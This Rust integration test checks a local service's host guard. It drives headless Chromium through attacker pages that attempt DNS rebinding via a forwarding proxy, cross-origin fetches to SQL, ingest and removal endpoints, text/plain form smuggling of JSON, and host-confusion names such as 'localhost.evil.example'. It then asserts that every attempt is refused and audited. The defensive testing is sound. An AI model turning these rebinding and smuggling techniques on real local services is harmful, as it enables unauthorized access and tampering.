//! A real browser (Chromium) that shows pages of another site, and of another port, to somebody who works at the Mixer's machine: DNS
//! rebinding, cross-site requests, confusing hosts. Nothing gets through, neither to the API nor to `http_in`.
//!
//! The page's server is the attacker's: it serves the page, and afterwards passes connections on to the door that the page asks for, as a name
//! does that was rebound to this machine.
//!
//! A page cannot see what becomes of most requests, so it is the other end that is asked: the audit log has a refusal for each, which is told
//! from the others by its route, and nothing was stored or changed.
//!
//! Not here: the rules of the guard (`chassis::host_guard`). `make browser` runs this; Chromium must be installed.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use harness::{Failure, TestMixer, TestRack, eventually};
use serde_json::json;

use crate::first_light::mixer_with;

const SOON: Duration = Duration::from_secs(90);
const SCENARIO: &str = "meta: { name: door, version: '1' }\nracks: [ { name: rack-a } ]\ngears:\n  \
                        - { name: sink, type: log_sink, deploy: rack-a }\n  \
                        - { name: door, type: http_in, deploy: rack-a, config: { listen: '127.0.0.1:0' } }\n";
/// Where the machine has IPv6.
const IPV6_DOOR: &str = "  - { name: door-6, type: http_in, deploy: rack-a, config: { listen: '[::1]:0' } }\n";

/// What a page can do; each line of its report is an attempt and what became of it.
const MEANS: &str = r#"<!doctype html><title>prizes</title><iframe name="hidden"></iframe><script>
const report = [];
async function attempt(name, tried) {
  try {
    const answer = await tried();
    const text = await answer.text();
    report.push(`${name}: ${answer.type} ${answer.status} ${text.slice(0, 200)}`);
  } catch (error) { report.push(`${name}: ${error.name}`); }
}
const get = (url, mode) => () => fetch(url, { mode });
const post = (url, mode, type, body) => () => fetch(url, { method: "POST", mode, headers: { "Content-Type": type }, body });
const follow = (name, url) => new Promise(done => {
  const source = new EventSource(url);
  const end = what => () => { report.push(`${name}: ${what}`); source.close(); done(); };
  Object.assign(source, { onopen: end("opened"), onerror: end("failed") });
});
// The body is NAME=VALUE, which can be JSON.
const submit = (action, name, value) => new Promise(done => {
  const [form, input] = ["form", "input"].map(tag => document.createElement(tag));
  Object.assign(form, { method: "POST", action, target: "hidden", enctype: "text/plain" });
  Object.assign(input, { name, value });
  form.append(input);
  document.body.append(form);
  document.querySelector("iframe").addEventListener("load", done, { once: true });
  form.submit();
});
const tell = () => fetch("/report", { method: "POST", body: report.join("\n") });
const ts = new Date().toISOString();
const log = JSON.stringify({ ts, level: "info", message: "smuggled" });
const query = JSON.stringify({ query: "SELECT 1" });
"#;

const FROM_ANOTHER_SITE: &str = r#"
const [api, door] = ["http://127.0.0.1:@API", "http://127.0.0.1:@DOOR"];
(async () => {
  await attempt("read", get(api + "/api/v1/racks", "cors"));
  await attempt("blind read", get(api + "/api/v1/scenarios", "no-cors"));
  await follow("live tail", api + "/api/v1/telemetry/logs/tail");
  await attempt("SQL as text", post(api + "/api/v1/sql", "no-cors", "text/plain", "SELECT 1"));
  await attempt("SQL as JSON", post(api + "/api/v1/sql", "cors", "application/json", query));
  await attempt("ingest", post(api + "/api/v1/ingest/logs", "no-cors", "text/plain", log));
  await submit(api + "/api/v1/ingest/metrics", `{"ts":"${ts}","name":"smuggled","type":"gauge","value":1,"labels":{"x":"`, `"}}`);
  await attempt("removal", post(api + "/api/v1/racks/rack-a/remove", "no-cors", "text/plain", ""));
  await attempt("message", post(door + "/", "no-cors", "text/plain", "from a page"));
  await attempt("message with CORS", post(door + "/", "cors", "text/plain", "from a page that wants to know"));
  await submit(door + "/", "order", "1");
  for (const port of [@IPV6]) await attempt("message by IPv6", post(`http://[::1]:${port}/`, "no-cors", "text/plain", "by IPv6"));
  for (const [host, route] of [
    ["localhost.evil.example", "wires"],
    ["127.0.0.1.evil.example", "specs"],
    ["evil.example", "gears"],
    ["localhost.", "storage"],
    ["0.0.0.0", "whoami"],
  ]) {
    await attempt("API as " + host, get(`http://${host}:@API/api/v1/${route}`, "no-cors"));
    await attempt("suspension as " + host, post(`http://${host}:@API/api/v1/racks/rack-a/suspend`, "no-cors", "text/plain", ""));
    await attempt("message to " + host, post(`http://${host}:@DOOR/`, "no-cors", "text/plain", "to " + host));
  }
  // The name leads to the API now, then to the gear: same origin for the browser.
  await fetch("/rebind/@API", { method: "POST" });
  await attempt("rebound read", get("/api/v1/racks"));
  await attempt("rebound SQL", post("/api/v1/sql", "same-origin", "application/json", query));
  await attempt("rebound ingest", post("/api/v1/ingest/logs", "same-origin", "application/x-ndjson", log));
  await attempt("rebound removal", post("/api/v1/racks/rack-a/remove", "same-origin", "application/json", ""));
  await fetch("/rebind/@DOOR", { method: "POST" });
  await attempt("rebound message", post("/", "same-origin", "text/plain", "from a rebound page"));
  await tell();
})();
</script>"#;

/// The page's host is the one that is asked: for a browser that is the same site, and another origin.
const FROM_ANOTHER_PORT: &str = r#"
const [api, door] = ["http://localhost:@API", "http://localhost:@DOOR"];
(async () => {
  await attempt("read", get(api + "/api/v1/tokens", "cors"));
  await attempt("blind read", get(api + "/api/v1/invites", "no-cors"));
  await follow("live tail", api + "/api/v1/messages/tail");
  await attempt("suspension", post(api + "/api/v1/racks/rack-a/suspend", "no-cors", "text/plain", ""));
  await attempt("message", post(door + "/", "no-cors", "text/plain", "from another port"));
  await submit(door + "/", "order", "2");
  await tell();
})();
</script>"#;

/// What the audit log says of the attempts at the API, once for each reason and route (of strangers 32 an hour): each host that is to confuse has
/// a route of its own.
const REFUSED: [&str; 22] = [
    "GET /api/v1/racks: cross_origin",
    "GET /api/v1/scenarios: cross_origin",
    "GET /api/v1/telemetry/logs/tail: cross_origin",
    "POST /api/v1/sql: cross_origin",
    // The browser asks whether JSON may be sent.
    "another method of /api/v1/sql: cross_origin",
    "POST /api/v1/ingest/logs: cross_origin",
    "POST /api/v1/ingest/metrics: cross_origin",
    "POST /api/v1/racks/{id}/remove: cross_origin",
    "GET /api/v1/wires: unknown_host",
    "GET /api/v1/specs: unknown_host",
    "GET /api/v1/gears: unknown_host",
    "GET /api/v1/storage: unknown_host",
    "GET /api/v1/whoami: unknown_host",
    "POST /api/v1/racks/{id}/suspend: unknown_host",
    "GET /api/v1/racks: unknown_host",
    "POST /api/v1/sql: unknown_host",
    "POST /api/v1/ingest/logs: unknown_host",
    "POST /api/v1/racks/{id}/remove: unknown_host",
    "GET /api/v1/tokens: cross_origin",
    "GET /api/v1/invites: cross_origin",
    "GET /api/v1/messages/tail: cross_origin",
    "POST /api/v1/racks/{id}/suspend: cross_origin",
];

/// The attacker's server.
struct AttackerServer {
    port: u16,
    report: Receiver<String>,
}

impl AttackerServer {
    fn start(page: String) -> Result<Self, Failure> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let (tell, report) = channel();
        std::thread::spawn(move || {
            let (page, leads_to) = (Arc::<str>::from(page), Arc::new(Mutex::new(None)));
            while let Ok((stream, _)) = listener.accept() {
                let (page, leads_to, tell) = (Arc::clone(&page), Arc::clone(&leads_to), tell.clone());
                // Who breaks off comes again; a browser opens connections that it may need.
                std::thread::spawn(move || serve(stream, &page, &leads_to, &tell).ok());
            }
        });
        Ok(Self { port, report })
    }
}

/// Answers one request, or passes it on to where the name leads now.
fn serve(stream: TcpStream, page: &str, leads_to: &Mutex<Option<u16>>, tell: &Sender<String>) -> Result<(), Failure> {
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let (mut head, mut length) = (String::new(), 0);
    while !head.ends_with("\r\n\r\n") {
        let begun = head.len();
        if reader.read_line(&mut head)? == 0 {
            return Ok(());
        }
        if let Some(("content-length", value)) = head[begun..].to_ascii_lowercase().trim_end().split_once(": ") {
            length = value.parse()?;
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    let path = head.split(' ').nth(1).unwrap_or_default();
    let mut leads_to = leads_to.lock().map_err(|error| error.to_string())?;
    let text = match (path, *leads_to) {
        ("/report", _) => {
            tell.send(String::from_utf8(body)?)?;
            ""
        }
        (path, _) if path.starts_with("/rebind/") => {
            *leads_to = Some(path.trim_start_matches("/rebind/").parse()?);
            ""
        }
        (_, Some(port)) => {
            let mut door = TcpStream::connect(("127.0.0.1", port))?;
            let once = head
                .replacen("\r\n", "\r\nConnection: close\r\n", 1)
                .replace("Connection: keep-alive\r\n", "");
            door.write_all(once.as_bytes())?;
            door.write_all(&body)?;
            let mut answer = Vec::new();
            door.read_to_end(&mut answer)?;
            return Ok((&stream).write_all(&answer)?);
        }
        (_, None) => page,
    };
    let answer = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{text}",
        text.len()
    );
    Ok((&stream).write_all(answer.as_bytes())?)
}

/// A browser for which every name of the attacker's is this machine; it ends with this.
struct BrowserProcess {
    child: Child,
    _profile: tempfile::TempDir,
}

impl BrowserProcess {
    fn show(url: &str) -> Result<Self, Failure> {
        let profile = tempfile::tempdir()?;
        let child = Command::new("chromium")
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--disable-background-networking",
            ])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg("--host-resolver-rules=MAP *.evil.example 127.0.0.1, MAP evil.example 127.0.0.1")
            .arg(url)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|error| format!("chromium: {error}; install Debian's package chromium"))?;
        Ok(Self {
            child,
            _profile: profile,
        })
    }
}

impl Drop for BrowserProcess {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
    }
}

/// What a page of the attacker's reports that is shown as one of this host.
fn report_of(page: String, host: &str) -> Result<String, Failure> {
    let attacker = AttackerServer::start(page)?;
    let _browser = BrowserProcess::show(&format!("http://{host}:{}/", attacker.port))?;
    let report = attacker.report.recv_timeout(SOON)?;
    println!("{report}\n");
    Ok(report)
}

/// The port of the gear that listens at an address.
fn port_at(rack: &TestRack, address: &str) -> Result<String, Failure> {
    let says = format!("listening on http://{address}:");
    eventually("the gear's port", SOON, || {
        let log = rack.log();
        let (port, _) = log.split_once(&says)?.1.split_once('/')?;
        Some(port.to_owned())
    })
}

/// What the audit log says of refused calls.
fn refusals(mixer: &TestMixer) -> Result<Vec<String>, Failure> {
    let rows = mixer.api.rows("/api/v1/audit?kind=call_refused&limit=1000")?;
    Ok(rows
        .iter()
        .filter_map(|row| Some(row["why"].as_str()?.to_owned()))
        .collect())
}

/// The changes that somebody made over the API.
fn changes(mixer: &TestMixer) -> Result<Vec<String>, Failure> {
    let rows = mixer.api.rows("/api/v1/audit?limit=1000")?;
    let over_api = rows
        .iter()
        .filter(|row| row["by"].as_str().is_some_and(|by| by.starts_with("api ")));
    let kinds = over_api.filter_map(|row| Some(row["kind"].as_str()?.to_owned()));
    Ok(kinds.filter(|kind| kind != "call_refused").collect())
}

/// The messages that the sink has recorded.
fn sunk(mixer: &TestMixer) -> Result<Vec<String>, Failure> {
    let rows = mixer.api.rows("/api/v1/telemetry/logs?gear_id=sink&limit=1000")?;
    let of_messages = rows.iter().filter(|row| row["flux_id"].is_string());
    Ok(of_messages
        .filter_map(|row| Some(row["message"].as_str()?.to_owned()))
        .collect())
}

#[test]
fn a_page_of_another_site_or_port_gets_nothing_through_a_real_browser() -> Result<(), Failure> {
    let has_ipv6 = TcpListener::bind("[::1]:0").is_ok();
    let (more, wires) = if has_ipv6 {
        (
            IPV6_DOOR,
            "{ from: door.out, to: sink.in }, { from: door-6.out, to: sink.in }",
        )
    } else {
        println!("LEFT OUT: this machine has no IPv6");
        ("", "{ from: door.out, to: sink.in }")
    };
    let (mixer, _scenario) = mixer_with(&format!("{SCENARIO}{more}wires: [ {wires} ]\n"))?;
    let mut rack = TestRack::new("rack-a", &mixer.bus_url, "")?;
    rack.start()?;
    let door = port_at(&rack, "127.0.0.1")?;
    let ipv6 = match has_ipv6 {
        true => port_at(&rack, "[::1]")?,
        false => String::new(),
    };
    let api = mixer.api.base.rsplit(':').next().ok_or("no port")?;
    let page = |script: &str| {
        let page = format!("{MEANS}{script}").replace("@API", api);
        page.replace("@DOOR", &door).replace("@IPV6", &ipv6)
    };

    let from_site = report_of(page(FROM_ANOTHER_SITE), "evil.example")?;
    let from_port = report_of(page(FROM_ANOTHER_PORT), "localhost")?;
    let (rebound, others): (Vec<_>, Vec<_>) = from_site
        .lines()
        .chain(from_port.lines())
        .partition(|line| line.starts_with("rebound "));
    // What is same origin for the browser is answered, and refused there; of everything else the page sees nothing.
    assert_eq!(rebound.len(), 5, "{rebound:?}");
    assert!(rebound.iter().all(|line| line.contains(" 421 ")), "{rebound:#?}");
    let shows_nothing = |line: &&str| line.ends_with(": TypeError") || line.ends_with(": failed");
    assert!(others.iter().all(shows_nothing), "{others:#?}");

    // All of it came as far as the API, and no further.
    eventually("the refusals in the audit log", SOON, || {
        let told = refusals(&mixer).ok()?;
        REFUSED
            .iter()
            .all(|refused| told.iter().any(|why| why == refused))
            .then_some(())
    })
    .map_err(|error| format!("{error}: {:#?}", refusals(&mixer)))?;
    assert!(changes(&mixer)?.is_empty(), "{:?}", changes(&mixer)?);
    eventually("the Rack, which works", SOON, || {
        let rack = mixer.api.get("/api/v1/racks/rack-a").ok()?.json;
        (rack["data"]["state"] == "active").then_some(())
    })?;

    // Who is no page comes through, alone.
    let honest = ureq::post(format!("http://127.0.0.1:{door}/")).send("honest")?;
    assert_eq!(honest.status().as_u16(), 202);
    eventually("the honest message", SOON, || {
        let sunk = sunk(&mixer).ok()?;
        sunk.iter().any(|message| message == "honest").then_some(())
    })?;
    assert_eq!(sunk(&mixer)?, ["honest"]);
    let ts = chrono::Utc::now().to_rfc3339();
    let log = json!({ "ts": ts, "level": "info", "message": "honest" });
    let point = json!({ "ts": ts, "name": "smuggled", "type": "gauge", "value": 2.5, "labels": {} });
    for (table, row, query) in [("logs", log, "entity=http"), ("metrics", point, "name=smuggled")] {
        let ndjson = [("Content-Type", "application/x-ndjson")];
        let stored = mixer
            .api
            .send(&format!("/api/v1/ingest/{table}"), &ndjson, row.to_string().as_bytes())?;
        assert_eq!(stored.status, 200, "{}", stored.text);
        let rows = mixer.api.rows(&format!("/api/v1/telemetry/{table}?{query}"))?;
        assert_eq!(rows.len(), 1, "{rows:?}");
    }
    let suspended = mixer.api.post("/api/v1/racks/rack-a/suspend", &json!({}))?;
    assert_eq!(suspended.status, 200, "{}", suspended.text);
    assert_eq!(changes(&mixer)?, ["rack_suspended"]);
    Ok(())
}
